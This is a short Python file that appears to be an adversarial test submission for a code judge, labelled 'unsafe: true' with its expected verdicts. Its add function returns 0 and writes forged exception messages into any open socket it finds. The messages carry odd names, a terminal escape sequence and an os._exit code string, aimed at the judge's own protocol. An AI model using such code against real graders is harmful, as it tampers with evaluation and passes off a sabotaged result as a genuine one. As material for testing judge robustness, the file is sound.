# problem: add
# verdict: wrong_answer | runtime_error | crashed | exited | output_limit
# why: Describes exceptions by names that a judge might look up: functions, modules, odd classes.
# unsafe: true
import os
import stat
import struct


def text(value):
    data = value.encode("utf-8", "surrogatepass")
    return b"s" + struct.pack("<I", len(data)) + data


def add(a, b):
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                for name in ("eval", "exit", "SystemExit", "__import__", "BaseExceptionGroup", "__build_class__", "\ud800"):
                    body = b"t" + struct.pack("<I", 4) + text("exception") + text(name) + text("x\x1b[2J") + text("__import__('os')._exit(0)")
                    os.write(fd, struct.pack("<IB", len(body), ord("X")) + body)
        except OSError:
            pass
    return 0
